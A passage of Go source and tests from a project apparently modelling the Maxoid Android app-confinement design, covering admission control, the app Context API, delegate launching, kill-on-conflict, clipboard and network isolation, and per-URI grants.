			a.Rejected(), a.Admitted(), a.InFlight())
	}
}

func TestAdmissionThroughRouter(t *testing.T) {
	// End to end: the controller installed on a router rejects typed and
	// CallIdempotent rides out a transient rejection via refill.
	router := binder.NewRouter()
	router.RegisterSystem("svc", binder.HandlerFunc(
		func(binder.Caller, string, binder.Parcel) (binder.Parcel, error) {
			return binder.Parcel{"ok": true}, nil
		}))
	a := NewAdmission(AdmissionConfig{PerAppRate: 200, PerAppBurst: 1})
	router.SetAdmission(a)
	router.SetRetryPolicy(binder.RetryPolicy{Attempts: 10, Base: 2 * time.Millisecond, Max: 20 * time.Millisecond})

	// First call drains the burst; the second must get rejected inline
	// but succeed through idempotent retry once ~5ms of refill passes.
	if _, err := router.Call(caller("app.a"), "svc", "op", nil); err != nil {
		t.Fatal(err)
	}
	if _, err := router.Call(caller("app.a"), "svc", "op", nil); !errors.Is(err, binder.ErrOverloaded) {
		t.Fatalf("want inline rejection, got %v", err)
	}
	reply, err := router.CallIdempotent(caller("app.a"), "svc", "op", nil)
	if err != nil {
		t.Fatalf("CallIdempotent over refill: %v", err)
	}
	if !reply.Bool("ok") {
		t.Fatalf("reply = %v", reply)
	}
}

func TestAdmissionMetrics(t *testing.T) {
	a := NewAdmission(AdmissionConfig{MaxInFlight: 4})
	reg := metrics.NewRegistry()
	a.SetMetrics(reg)
	release, err := a.Admit(caller("app.a"), "p", "query", 2)
	if err != nil {
		t.Fatal(err)
	}
	release()
	fault.Enable(1, fault.Spec{Point: "ams.admit", Prob: 1})
	a.Admit(caller("app.a"), "p", "query", 1)
	fault.Disable()
	tot := reg.Totals()
	if tot["ams.admitted"] != 2 || tot["ams.rejected"] != 1 {
		t.Fatalf("totals = %v", tot)
	}
}
