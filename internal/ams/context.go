package ams

import (
	"errors"
	"fmt"

	"maxoid/internal/binder"
	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/layout"
	"maxoid/internal/provider"
	"maxoid/internal/vfs"
)

// Context is the app-facing API of a running instance: what an Android
// Context plus the Maxoid additions (§6.1 "APIs for delegates") give
// app code. All storage access goes through the instance's mount
// namespace, so the Maxoid views apply transparently.
type Context struct {
	mgr  *Manager
	proc *kernel.Process
	app  *installedApp
}

// Package returns the app's package name.
func (c *Context) Package() string { return c.proc.Task.App }

// Task returns the kernel task identity (app + initiator).
func (c *Context) Task() kernel.Task { return c.proc.Task }

// PID returns the instance's process ID.
func (c *Context) PID() int { return c.proc.PID }

// IsDelegate reports whether this instance runs on behalf of another
// app — the Maxoid delegate query API.
func (c *Context) IsDelegate() bool { return c.proc.Task.IsDelegate() }

// Initiator returns the initiator this instance runs on behalf of
// ("" when running as itself) — the Maxoid delegate query API.
func (c *Context) Initiator() string {
	if c.proc.Task.IsDelegate() {
		return c.proc.Task.Initiator
	}
	return ""
}

// FS returns the instance's view of the filesystem (its mount
// namespace). Paths are the client-visible ones from package layout.
func (c *Context) FS() vfs.FileSystem { return c.proc.NS }

// Cred returns the instance's filesystem credential.
func (c *Context) Cred() vfs.Cred { return vfs.Cred{UID: c.proc.UID} }

// DataDir returns the app's internal private directory path.
func (c *Context) DataDir() string { return layout.AppData(c.Package()) }

// PPrivDir returns the persistent private directory path, usable only
// when running as a delegate (§3.2).
func (c *Context) PPrivDir() string { return layout.AppPPriv(c.Package()) }

// ExtDir returns the external storage path.
func (c *Context) ExtDir() string { return layout.ExtDir }

// VolDir returns the initiator-visible directory of its volatile files.
func (c *Context) VolDir() string { return layout.ExtTmpDir }

// caller builds the Binder caller identity of this instance.
func (c *Context) caller() binder.Caller {
	return binder.Caller{PID: c.proc.PID, UID: c.proc.UID, Task: c.proc.Task}
}

// Resolver returns the ContentResolver bound to this instance.
func (c *Context) Resolver() *provider.Resolver {
	return provider.NewResolver(c.mgr.router, c.caller())
}

// CallProvider performs a provider-specific Binder transaction (e.g.
// the Media scanner's "scan").
func (c *Context) CallProvider(authority, code string, data binder.Parcel) (binder.Parcel, error) {
	return c.mgr.router.Call(c.caller(), "provider:"+authority, code, data)
}

// CallApp performs direct Binder IPC to another app instance, subject
// to the kernel's Maxoid Binder policy. The target is named by task
// notation ("pkg" or "pkg^initiator").
func (c *Context) CallApp(task kernel.Task, code string, data binder.Parcel) (binder.Parcel, error) {
	return c.mgr.router.Call(c.caller(), endpointFor(task), code, data)
}

// CallAppRetry is CallApp for idempotent transactions, with
// supervision: dead-target and timeout failures are retried with
// backoff, and if the target stays gone the Activity Manager restarts
// it (subject to Zygote's restart budget) and tries once more. A
// restart refused by the budget surfaces the typed
// zygote.ErrRestartBudgetExhausted.
func (c *Context) CallAppRetry(task kernel.Task, code string, data binder.Parcel) (binder.Parcel, error) {
	name := endpointFor(task)
	reply, err := c.mgr.router.CallIdempotent(c.caller(), name, code, data)
	if err == nil ||
		!(errors.Is(err, kernel.ErrDeadProcess) || errors.Is(err, binder.ErrNoEndpoint)) {
		return reply, err
	}
	if rerr := c.mgr.restartInstance(task); rerr != nil {
		return nil, fmt.Errorf("ams: restart of %s for retry: %w", task, rerr)
	}
	return c.mgr.router.CallIdempotent(c.caller(), name, code, data)
}

// Connect opens a network connection; delegates get ENETUNREACH.
func (c *Context) Connect(host string) (*kernel.Conn, error) {
	return c.proc.Connect(host)
}

// StartActivity invokes another app with the intent; Maxoid decides the
// invoked instance's context (§3.4).
func (c *Context) StartActivity(in intent.Intent) (*Context, error) {
	return c.mgr.StartActivity(c, in)
}

// SendBroadcast sends a broadcast intent, restricted for delegates.
func (c *Context) SendBroadcast(in intent.Intent) error {
	return c.mgr.SendBroadcast(c, in)
}

// invokerPolicy returns the app's Maxoid-manifest invoker policy.
func (c *Context) invokerPolicy() intent.InvokerPolicy {
	return c.app.manifest.Maxoid.Invoker
}

// Alive reports whether the instance's process is still running.
func (c *Context) Alive() bool { return c.proc.Alive() }
