package ams

import (
	"errors"
	"testing"

	"maxoid/internal/binder"
	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/mount"
	"maxoid/internal/zygote"
)

// TestConflictKillReclaimsResources covers the kill-on-conflict path
// (§6.2) end to end: when starting B^A kills the normal instance of B,
// the reaper must tear down everything the dead instance held — kernel
// process entry, mount namespace, Binder endpoint, URI grants — and
// record the death as a conflict.
func TestConflictKillReclaimsResources(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	install(t, m, &testApp{pkg: "email"}, Manifest{Package: "email"})

	// Normal viewer instance, holding a URI grant it issued.
	vctx, err := m.StartActivity(nil, intent.Intent{Component: "viewer"})
	if err != nil {
		t.Fatal(err)
	}
	victimPID := vctx.PID()
	m.grants.add(victimPID, "email", "/data/data/viewer/shared.txt")
	if m.OutstandingGrants() != 1 {
		t.Fatalf("grants = %d, want 1", m.OutstandingGrants())
	}
	// Starting viewer as a delegate of email conflicts with the normal
	// instance and must kill it.
	ectx, err := m.StartActivity(nil, intent.Intent{Component: "email"})
	if err != nil {
		t.Fatal(err)
	}
	// Baseline here: the delegate start adds one namespace and the
	// conflict kill must release the victim's — net zero.
	baseNS := mount.Live()
	dctx, err := ectx.StartActivity(intent.Intent{
		Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate,
	})
	if err != nil {
		t.Fatal(err)
	}
	if !dctx.IsDelegate() {
		t.Fatal("expected delegate start")
	}

	if m.KilledForConflict() != 1 {
		t.Fatalf("KilledForConflict = %d, want 1", m.KilledForConflict())
	}
	if vctx.Alive() {
		t.Fatal("conflicting instance still alive")
	}
	// Kernel: process gone, death recorded as conflict.
	if _, ok := m.kern.Process(victimPID); ok {
		t.Fatal("victim still in process table")
	}
	if reason, ok := m.kern.DeathReasonOf(victimPID); !ok || reason != kernel.ReasonConflict {
		t.Fatalf("death reason = %v, %v; want conflict", reason, ok)
	}
	if got := mount.Live(); got != baseNS {
		t.Fatalf("live namespaces = %d, want %d", got, baseNS)
	}
	// Binder endpoint removed; calls fail typed.
	_, cerr := ectx.CallApp(kernel.Task{App: "viewer"}, "ping", nil)
	if !errors.Is(cerr, kernel.ErrDeadProcess) && !errors.Is(cerr, binder.ErrNoEndpoint) {
		t.Fatalf("call after conflict kill: want typed dead/no-endpoint, got %v", cerr)
	}
	// Grants issued by the dead process are revoked.
	if m.OutstandingGrants() != 0 {
		t.Fatalf("grants = %d after death, want 0", m.OutstandingGrants())
	}
	if m.Reaped() == 0 {
		t.Fatal("reaper processed no deaths")
	}
}

// TestStopInstanceReclaims: an orderly stop goes through the same
// reaper and releases the namespace and endpoint.
func TestStopInstanceReclaims(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	baseNS := mount.Live()
	vctx, err := m.StartActivity(nil, intent.Intent{Component: "viewer"})
	if err != nil {
		t.Fatal(err)
	}
	m.StopInstance("viewer", "")
	if vctx.Alive() {
		t.Fatal("instance alive after stop")
	}
	if got := mount.Live(); got != baseNS {
		t.Fatalf("live namespaces = %d, want %d", got, baseNS)
	}
	if m.NumRunning() != 0 {
		t.Fatalf("running = %d, want 0", m.NumRunning())
	}
	if reason, _ := m.kern.DeathReasonOf(vctx.PID()); reason != kernel.ReasonKilled {
		t.Fatalf("death reason = %v, want killed", reason)
	}
}

// TestCrashChargesRestartBudget: only crashes count against the
// restart budget; orderly kills do not.
func TestCrashChargesRestartBudget(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))

	vctx, _ := m.StartActivity(nil, intent.Intent{Component: "viewer"})
	_ = m.kern.Crash(vctx.PID())
	if got := m.zyg.Budget().Crashes("viewer"); got != 1 {
		t.Fatalf("crashes = %d, want 1", got)
	}

	vctx2, err := m.StartActivity(nil, intent.Intent{Component: "viewer"})
	if err != nil {
		// The first crash's backoff may still be open; that is the typed
		// budget error, and the test's point stands.
		if !errors.Is(err, zygote.ErrRestartBudgetExhausted) {
			t.Fatalf("restart: %v", err)
		}
		return
	}
	m.StopInstance("viewer", "")
	_ = vctx2
	if got := m.zyg.Budget().Crashes("viewer"); got != 1 {
		t.Fatalf("orderly kill charged the budget: crashes = %d, want 1", got)
	}
}

// TestLifecycleSentinels pins the errors.Is contracts the supervision
// layer promises.
func TestLifecycleSentinels(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	vctx, _ := m.StartActivity(nil, intent.Intent{Component: "viewer"})
	pid := vctx.PID()

	// Unknown PID: ErrNoSuchPID, not ErrDeadProcess.
	if err := m.kern.Kill(99999); !errors.Is(err, kernel.ErrNoSuchPID) {
		t.Fatalf("kill unknown pid: %v", err)
	}
	// First kill succeeds.
	if err := m.kern.Kill(pid); err != nil {
		t.Fatalf("kill: %v", err)
	}
	// Second kill: idempotent, typed ErrDeadProcess (and the deprecated
	// alias still matches).
	err := m.kern.Kill(pid)
	if !errors.Is(err, kernel.ErrDeadProcess) {
		t.Fatalf("double kill: %v", err)
	}
	if !errors.Is(err, kernel.ErrNoProcess) {
		t.Fatalf("ErrNoProcess alias broken: %v", err)
	}
}
