package ams

import (
	"errors"
	"testing"

	"maxoid/internal/binder"
	"maxoid/internal/intent"
	"maxoid/internal/kernel"
	"maxoid/internal/netstack"
	"maxoid/internal/vfs"
	"maxoid/internal/zygote"
)

// testApp is a scriptable app for AMS tests.
type testApp struct {
	pkg        string
	onStart    func(ctx *Context, in intent.Intent) error
	broadcasts []intent.Intent
	lastCtx    *Context
}

func (a *testApp) Package() string { return a.pkg }

func (a *testApp) OnStart(ctx *Context, in intent.Intent) error {
	a.lastCtx = ctx
	if a.onStart != nil {
		return a.onStart(ctx, in)
	}
	return nil
}

func (a *testApp) OnBroadcast(ctx *Context, in intent.Intent) {
	a.broadcasts = append(a.broadcasts, in)
	a.lastCtx = ctx
}

func newManager(t *testing.T) *Manager {
	t.Helper()
	disk := vfs.New()
	kern := kernel.New(netstack.New(0, 0))
	zyg := zygote.New(disk, kern)
	if err := zyg.InitDevice(); err != nil {
		t.Fatal(err)
	}
	return New(kern, zyg, binder.NewRouter())
}

func install(t *testing.T, m *Manager, app App, manifest Manifest) {
	t.Helper()
	if err := m.Install(app, manifest); err != nil {
		t.Fatal(err)
	}
}

func viewerManifest(pkg string) Manifest {
	return Manifest{
		Package: pkg,
		Filters: []intent.Filter{{Actions: []string{intent.ActionView}}},
	}
}

func TestResolveByFilter(t *testing.T) {
	m := newManager(t)
	viewer := &testApp{pkg: "viewer"}
	install(t, m, viewer, viewerManifest("viewer"))
	install(t, m, &testApp{pkg: "sender"}, Manifest{Package: "sender"})

	sctx, err := m.StartActivity(nil, intent.Intent{Component: "sender"})
	if err != nil {
		t.Fatal(err)
	}
	vctx, err := sctx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/sdcard/f.pdf"})
	if err != nil {
		t.Fatal(err)
	}
	if vctx.Package() != "viewer" {
		t.Errorf("resolved to %s", vctx.Package())
	}
	if vctx.IsDelegate() {
		t.Error("plain VIEW invocation should be normal")
	}
}

func TestNoActivityFound(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "sender"}, Manifest{Package: "sender"})
	sctx, _ := m.StartActivity(nil, intent.Intent{Component: "sender"})
	if _, err := sctx.StartActivity(intent.Intent{Action: "nothing.handles.this"}); !errors.Is(err, ErrNoActivity) {
		t.Errorf("err = %v, want ErrNoActivity", err)
	}
}

func TestDelegateViaExplicitFlag(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	install(t, m, &testApp{pkg: "email"}, Manifest{Package: "email"})
	ectx, _ := m.StartActivity(nil, intent.Intent{Component: "email"})
	vctx, err := ectx.StartActivity(intent.Intent{
		Action: intent.ActionView, Data: "/data/data/email/att.pdf", Flags: intent.FlagDelegate,
	})
	if err != nil {
		t.Fatal(err)
	}
	if !vctx.IsDelegate() || vctx.Initiator() != "email" {
		t.Errorf("viewer context: delegate=%v initiator=%q", vctx.IsDelegate(), vctx.Initiator())
	}
}

func TestDelegateViaInvokerFilters(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	// Dropbox-style manifest: all VIEW intents are private.
	install(t, m, &testApp{pkg: "dropbox"}, Manifest{
		Package: "dropbox",
		Maxoid: MaxoidManifest{
			Invoker: intent.InvokerPolicy{
				Whitelist: true,
				Filters:   []intent.Filter{{Actions: []string{intent.ActionView}}},
			},
		},
	})
	dctx, _ := m.StartActivity(nil, intent.Intent{Component: "dropbox"})
	vctx, err := dctx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/sdcard/Dropbox/f.pdf"})
	if err != nil {
		t.Fatal(err)
	}
	if !vctx.IsDelegate() || vctx.Initiator() != "dropbox" {
		t.Error("invoker filter did not force delegation")
	}
}

func TestInvocationTransitivity(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "email"}, Manifest{Package: "email"})
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	install(t, m, &testApp{pkg: "translator"}, Manifest{
		Package: "translator",
		Filters: []intent.Filter{{Actions: []string{intent.ActionSend}}},
	})
	ectx, _ := m.StartActivity(nil, intent.Intent{Component: "email"})
	vctx, _ := ectx.StartActivity(intent.Intent{
		Action: intent.ActionView, Data: "/x.pdf", Flags: intent.FlagDelegate,
	})
	// The delegate invokes a third app: forced into the same domain.
	tctx, err := vctx.StartActivity(intent.Intent{Action: intent.ActionSend, Data: "text"})
	if err != nil {
		t.Fatal(err)
	}
	if tctx.Initiator() != "email" {
		t.Errorf("transitivity: initiator = %q, want email", tctx.Initiator())
	}
	// Nested delegation fails.
	if _, err := vctx.StartActivity(intent.Intent{
		Action: intent.ActionSend, Flags: intent.FlagDelegate,
	}); !errors.Is(err, ErrNestedDelegation) {
		t.Errorf("nested delegation: %v", err)
	}
}

func TestDelegateInvokingItsInitiatorRunsNormally(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "email"}, Manifest{
		Package: "email",
		Filters: []intent.Filter{{Actions: []string{intent.ActionSend}}},
	})
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	ectx, _ := m.StartActivity(nil, intent.Intent{Component: "email"})
	vctx, _ := ectx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	// viewer^email invokes email: email runs as itself, not email^email.
	ectx2, err := vctx.StartActivity(intent.Intent{Component: "email", Action: intent.ActionSend})
	if err != nil {
		t.Fatal(err)
	}
	if ectx2.IsDelegate() {
		t.Error("initiator invoked by its delegate must run as itself")
	}
}

func TestKillOnConflict(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	install(t, m, &testApp{pkg: "email"}, Manifest{Package: "email"})

	// Normal viewer instance running.
	vctx, err := m.StartActivity(nil, intent.Intent{Component: "viewer", Action: intent.ActionView})
	if err != nil {
		t.Fatal(err)
	}
	if !vctx.Alive() {
		t.Fatal("viewer not alive")
	}
	// Starting viewer^email kills the normal instance (§4.2).
	ectx, _ := m.StartActivity(nil, intent.Intent{Component: "email"})
	dctx, err := ectx.StartActivity(intent.Intent{
		Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate,
	})
	if err != nil {
		t.Fatal(err)
	}
	if vctx.Alive() {
		t.Error("normal viewer instance survived delegate start")
	}
	if !dctx.Alive() {
		t.Error("delegate instance not running")
	}
	if m.KilledForConflict() != 1 {
		t.Errorf("killedForConflict = %d", m.KilledForConflict())
	}
	running := m.Running()
	if len(running) != 2 { // email + viewer^email
		t.Errorf("running = %v", running)
	}
}

func TestSameContextInstanceReused(t *testing.T) {
	m := newManager(t)
	viewer := &testApp{pkg: "viewer"}
	install(t, m, viewer, viewerManifest("viewer"))
	c1, err := m.StartActivity(nil, intent.Intent{Component: "viewer", Action: intent.ActionView})
	if err != nil {
		t.Fatal(err)
	}
	c2, err := m.StartActivity(nil, intent.Intent{Component: "viewer", Action: intent.ActionView})
	if err != nil {
		t.Fatal(err)
	}
	if c1 != c2 {
		t.Error("same-context start created a second instance")
	}
}

func TestLauncherStartDelegate(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "camera"}, Manifest{Package: "camera"})
	install(t, m, &testApp{pkg: "email"}, Manifest{Package: "email"})
	cctx, err := m.StartDelegateFromLauncher("camera", "email", intent.Intent{Action: intent.ActionMain})
	if err != nil {
		t.Fatal(err)
	}
	if !cctx.IsDelegate() || cctx.Initiator() != "email" {
		t.Error("launcher delegate start failed")
	}
	if _, err := m.StartDelegateFromLauncher("nope", "email", intent.Intent{}); !errors.Is(err, ErrNotInstalled) {
		t.Errorf("unknown app: %v", err)
	}
	if _, err := m.StartDelegateFromLauncher("camera", "nope", intent.Intent{}); !errors.Is(err, ErrNotInstalled) {
		t.Errorf("unknown initiator: %v", err)
	}
}

func TestBroadcastRestriction(t *testing.T) {
	m := newManager(t)
	listener := &testApp{pkg: "listener"}
	install(t, m, listener, Manifest{
		Package: "listener",
		Filters: []intent.Filter{{Actions: []string{"custom.EVENT"}}},
	})
	install(t, m, &testApp{pkg: "email"}, Manifest{Package: "email"})
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))

	// Broadcast from a delegate is delivered to the listener AS A
	// DELEGATE of the same initiator, not as a normal instance.
	ectx, _ := m.StartActivity(nil, intent.Intent{Component: "email"})
	vctx, _ := ectx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	if err := vctx.SendBroadcast(intent.Intent{Action: "custom.EVENT", Data: "payload"}); err != nil {
		t.Fatal(err)
	}
	if len(listener.broadcasts) != 1 {
		t.Fatalf("broadcasts = %d", len(listener.broadcasts))
	}
	if listener.lastCtx.Initiator() != "email" {
		t.Errorf("broadcast receiver context initiator = %q, want email", listener.lastCtx.Initiator())
	}

	// Broadcast from an initiator reaches a normal instance.
	if err := ectx.SendBroadcast(intent.Intent{Action: "custom.EVENT"}); err != nil {
		t.Fatal(err)
	}
	if len(listener.broadcasts) != 2 || listener.lastCtx.IsDelegate() {
		t.Errorf("initiator broadcast: %d, delegate=%v", len(listener.broadcasts), listener.lastCtx.IsDelegate())
	}
}

func TestDirectBinderBetweenApps(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "email"}, Manifest{Package: "email"})
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	install(t, m, &testApp{pkg: "evil"}, Manifest{Package: "evil"})

	ectx, _ := m.StartActivity(nil, intent.Intent{Component: "email"})
	_, _ = m.StartActivity(nil, intent.Intent{Component: "evil"})
	vctx, _ := ectx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})

	// Delegate calling an unrelated app directly: EPERM.
	if _, err := vctx.CallApp(kernel.Task{App: "evil"}, "exfiltrate", nil); !errors.Is(err, kernel.ErrPermissionDenied) {
		t.Errorf("delegate->evil: %v, want EPERM", err)
	}
	// Delegate calling its initiator: allowed (app rejects the code but
	// the policy admits the transaction).
	if _, err := vctx.CallApp(kernel.Task{App: "email"}, "result", nil); errors.Is(err, kernel.ErrPermissionDenied) {
		t.Errorf("delegate->initiator denied: %v", err)
	}
}

func TestClearVolAndClearPriv(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "email"}, Manifest{Package: "email"})
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	cb := NewClipboard()
	m.AddVolatileStore(cb)

	ectx, _ := m.StartActivity(nil, intent.Intent{Component: "email"})
	vctx, _ := ectx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})

	// Delegate leaves traces: a volatile file, a pPriv file, a clip.
	if err := vfs.WriteFile(vctx.FS(), vctx.Cred(), vctx.ExtDir()+"/trace.txt", []byte("t"), 0o666); err != nil {
		t.Fatal(err)
	}
	if err := vfs.WriteFile(vctx.FS(), vctx.Cred(), vctx.PPrivDir()+"/recent", []byte("r"), 0o600); err != nil {
		t.Fatal(err)
	}
	cb.Set(vctx.Task(), "copied-secret")

	if err := m.ClearVol("email"); err != nil {
		t.Fatal(err)
	}
	// Delegate was killed; volatile file and clip gone.
	if vctx.Alive() {
		t.Error("delegate survived ClearVol")
	}
	if vfs.Exists(ectx.FS(), ectx.Cred(), ectx.VolDir()+"/trace.txt") {
		t.Error("volatile file survived ClearVol")
	}
	if clip, ok := cb.Get(kernel.Task{App: "x", Initiator: "email"}); ok && clip == "copied-secret" {
		t.Error("domain clipboard survived ClearVol")
	}

	// pPriv survives ClearVol but not ClearPriv.
	vctx2, _ := ectx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	if !vfs.Exists(vctx2.FS(), vctx2.Cred(), vctx2.PPrivDir()+"/recent") {
		t.Error("pPriv did not survive ClearVol")
	}
	if err := m.ClearPriv("email"); err != nil {
		t.Fatal(err)
	}
	vctx3, _ := ectx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	if vfs.Exists(vctx3.FS(), vctx3.Cred(), vctx3.PPrivDir()+"/recent") {
		t.Error("pPriv survived ClearPriv")
	}
}

func TestClipboardSeparation(t *testing.T) {
	cb := NewClipboard()
	pub := kernel.Task{App: "notes"}
	delA := kernel.Task{App: "viewer", Initiator: "email"}
	delA2 := kernel.Task{App: "editor", Initiator: "email"}
	delB := kernel.Task{App: "viewer", Initiator: "dropbox"}

	cb.Set(pub, "public-clip")
	// Delegates read the public clip when their domain has none.
	if clip, ok := cb.Get(delA); !ok || clip != "public-clip" {
		t.Errorf("delegate fallback: %q %v", clip, ok)
	}
	// A delegate copy stays in the domain.
	cb.Set(delA, "domain-secret")
	if clip, _ := cb.Get(pub); clip != "public-clip" {
		t.Error("delegate clip leaked to public clipboard")
	}
	if clip, _ := cb.Get(delB); clip != "public-clip" {
		t.Error("delegate clip leaked to another domain")
	}
	if clip, _ := cb.Get(delA2); clip != "domain-secret" {
		t.Error("same-domain delegate cannot paste")
	}
	// The initiator itself can paste its domain clip.
	if clip, _ := cb.Get(kernel.Task{App: "email"}); clip != "domain-secret" {
		t.Error("initiator cannot paste domain clip")
	}
}

func TestBluetoothAndSMSGates(t *testing.T) {
	bt := &Bluetooth{}
	tel := &Telephony{}
	delegate := kernel.Task{App: "viewer", Initiator: "email"}
	initiator := kernel.Task{App: "email"}

	if err := bt.Send(delegate, "secret"); !errors.Is(err, ErrDelegateDenied) {
		t.Errorf("bt from delegate: %v", err)
	}
	if err := bt.Send(initiator, "ok"); err != nil {
		t.Errorf("bt from initiator: %v", err)
	}
	if err := tel.SendSMS(delegate, "+1", "secret"); !errors.Is(err, ErrDelegateDenied) {
		t.Errorf("sms from delegate: %v", err)
	}
	if err := tel.SendSMS(initiator, "+1", "hi"); err != nil {
		t.Errorf("sms from initiator: %v", err)
	}
	if len(bt.Sent()) != 1 || len(tel.Sent()) != 1 {
		t.Errorf("sent logs: %v %v", bt.Sent(), tel.Sent())
	}
}

func TestDelegateNetworkCutOff(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "email"}, Manifest{Package: "email"})
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	ectx, _ := m.StartActivity(nil, intent.Intent{Component: "email"})
	vctx, _ := ectx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/x", Flags: intent.FlagDelegate})
	if _, err := vctx.Connect("anywhere"); !errors.Is(err, kernel.ErrNetUnreachable) {
		t.Errorf("delegate connect: %v", err)
	}
	// When viewer next runs as itself, network is restored (§2.4).
	m.StopInstance("viewer", "email")
	nctx, err := m.StartActivity(nil, intent.Intent{Component: "viewer", Action: intent.ActionView})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := nctx.Connect("anywhere"); errors.Is(err, kernel.ErrNetUnreachable) {
		t.Error("network not restored for normal run")
	}
}

func TestInstallValidation(t *testing.T) {
	m := newManager(t)
	if err := m.Install(&testApp{pkg: "a"}, Manifest{Package: "b"}); err == nil {
		t.Error("mismatched manifest should fail")
	}
	if err := m.Install(&testApp{pkg: "a"}, Manifest{}); err != nil {
		t.Errorf("empty manifest package should default: %v", err)
	}
}

func TestPerURIGrant(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "email"}, Manifest{Package: "email"})
	viewer := &testApp{pkg: "viewer"}
	install(t, m, viewer, viewerManifest("viewer"))

	ectx, _ := m.StartActivity(nil, intent.Intent{Component: "email"})
	secret := ectx.DataDir() + "/att.pdf"
	if err := vfs.WriteFile(ectx.FS(), ectx.Cred(), secret, []byte("attachment"), 0o600); err != nil {
		t.Fatal(err)
	}

	// Without a grant, the viewer (running normally, different UID)
	// cannot read the file at all.
	vctx, err := m.StartActivity(nil, intent.Intent{Component: "viewer", Action: intent.ActionView})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := vctx.OpenGrantedURI(secret); !errors.Is(err, ErrNoGrant) {
		t.Errorf("ungranted open: %v, want ErrNoGrant", err)
	}

	// Email invokes the viewer with the grant flag (no delegate flag:
	// this is the stock-Android flow of §2.2 case study III).
	vctx2, err := ectx.StartActivity(intent.Intent{
		Action: intent.ActionView, Data: secret, Flags: intent.FlagGrantReadURIPermission,
	})
	if err != nil {
		t.Fatal(err)
	}
	data, err := vctx2.OpenGrantedURI(secret)
	if err != nil || string(data) != "attachment" {
		t.Fatalf("granted open = %q, %v", data, err)
	}
	// One-time semantics: a second open needs a fresh invocation.
	if _, err := vctx2.OpenGrantedURI(secret); !errors.Is(err, ErrNoGrant) {
		t.Errorf("second open: %v, want ErrNoGrant", err)
	}
	// The paper's criticism holds in the model: the granted receiver
	// can copy the bytes to public storage — only confinement stops it.
	if err := vctx2.FS().MkdirAll(vctx2.Cred(), vctx2.ExtDir(), 0o777); err == nil {
		if err := vfs.WriteFile(vctx2.FS(), vctx2.Cred(), vctx2.ExtDir()+"/leak.pdf", data, 0o666); err != nil {
			t.Fatalf("leak write: %v", err)
		}
	}
}

func TestResolveCandidates(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "viewer1"}, viewerManifest("viewer1"))
	install(t, m, &testApp{pkg: "viewer2"}, viewerManifest("viewer2"))
	install(t, m, &testApp{pkg: "sender"}, Manifest{Package: "sender"})
	got := m.ResolveCandidates("sender", intent.Intent{Action: intent.ActionView, Data: "/f"})
	if len(got) != 2 || got[0] != "viewer1" || got[1] != "viewer2" {
		t.Errorf("candidates = %v", got)
	}
	// The sender itself is excluded; unmatched intents yield nothing.
	if got := m.ResolveCandidates("viewer1", intent.Intent{Action: "no.match"}); len(got) != 0 {
		t.Errorf("unmatched candidates = %v", got)
	}
}

func TestInvokerBlacklistPolicy(t *testing.T) {
	m := newManager(t)
	install(t, m, &testApp{pkg: "viewer"}, viewerManifest("viewer"))
	install(t, m, &testApp{pkg: "sharer"}, Manifest{
		Package: "sharer",
		Filters: []intent.Filter{{Actions: []string{intent.ActionSend}}},
	})
	// Blacklist mode: SEND intents stay public, everything else private.
	install(t, m, &testApp{pkg: "vault"}, Manifest{
		Package: "vault",
		Maxoid: MaxoidManifest{
			Invoker: intent.InvokerPolicy{
				Whitelist: false,
				Filters:   []intent.Filter{{Actions: []string{intent.ActionSend}}},
			},
		},
	})
	vctx, _ := m.StartActivity(nil, intent.Intent{Component: "vault"})
	shared, err := vctx.StartActivity(intent.Intent{Action: intent.ActionSend, Data: "public-note"})
	if err != nil {
		t.Fatal(err)
	}
	if shared.IsDelegate() {
		t.Error("blacklisted SEND intent forced a delegate")
	}
	viewed, err := vctx.StartActivity(intent.Intent{Action: intent.ActionView, Data: "/doc"})
	if err != nil {
